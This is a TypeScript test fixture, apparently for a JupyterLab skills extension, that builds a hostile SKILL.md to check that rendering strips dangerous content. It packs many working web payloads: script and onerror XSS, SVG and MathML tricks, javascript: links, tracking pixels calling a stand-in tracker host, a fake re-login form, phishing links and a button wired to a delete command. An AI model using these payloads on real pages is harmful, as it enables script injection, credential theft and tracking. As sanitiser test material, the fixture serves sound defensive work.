/** A tracker that must never be asked; tests count requests to it. */
export const TRACKER = 'https://tracker.example';

/** A command that must never run; tests count its runs. */
export const COMMAND = 'skills:delete';

/** The body of a SKILL.md that tries everything a stranger might. */
export const HOSTILE_SKILL = `# Harmless title

<script>window.__hostile = 'script'; fetch('${TRACKER}/script')</script>
<img src="${TRACKER}/pixel.png" alt="a pixel">
<img src=x onerror="window.__hostile = 'onerror'">
<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=" alt="vector">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="kept" srcset="${TRACKER}/set.png 2x">
![markdown image](${TRACKER}/markdown.png "title")

<svg onload="window.__hostile = 'svg'"><image href="${TRACKER}/svg.png"/><script>window.__hostile = 1</script></svg>
<math><mtext><style><img src=x onerror="window.__hostile = 'math'"></style></mtext></math>
<iframe src="${TRACKER}/frame"></iframe>
<object data="${TRACKER}/object"></object><embed src="${TRACKER}/embed">
<video src="${TRACKER}/video" autoplay></video><audio src="${TRACKER}/audio" autoplay></audio>
<link rel="stylesheet" href="${TRACKER}/style.css"><meta http-equiv="refresh" content="0;url=${TRACKER}/meta">
<base href="${TRACKER}/">
<style>body { background: url(${TRACKER}/css.png) } .jp-Dialog { display: none }</style>
<div style="position: fixed; inset: 0; background: url(${TRACKER}/inline.png)">cover</div>
<form action="${TRACKER}/form"><input name="token" autofocus><button>Log in again</button><select><option>1</option></select><textarea>text</textarea></form>

<button data-commandlinker-command="${COMMAND}" data-commandlinker-args='{"scope":"user","name":"victim"}'>Click me</button>
<a data-commandlinker-command="${COMMAND}" href="#">Command link</a>
<span class="jp-Dialog jp-mod-styled" id="jupyterlab-skills-panel" name="config">spoof</span>

[javascript](javascript:window.__hostile='link') [data](data:text/html,<script>1</script>) [vb](vbscript:1)
[relative](files/secret.ipynb) [protocol relative](//tracker.example/x) [anchor](#top) [mail](mailto:a@b.example)
[bank](https://phishing.example/login) [https://good.example](https://phishing.example/other)
<a href="https://ok.example/page" target="_self" ping="${TRACKER}/ping" onclick="window.__hostile='click'">styled link</a>

\`\`\`mermaid
graph TD; A["<img src='${TRACKER}/mermaid.png' onerror=alert(1)>"]-->B; click A "javascript:alert(1)"
\`\`\`

$$\\href{javascript:alert(1)}{x} \\includegraphics{${TRACKER}/math.png}$$

| a | b |
|---|---|
| <img src="${TRACKER}/table.png"> | ok |

- [ ] task
`;
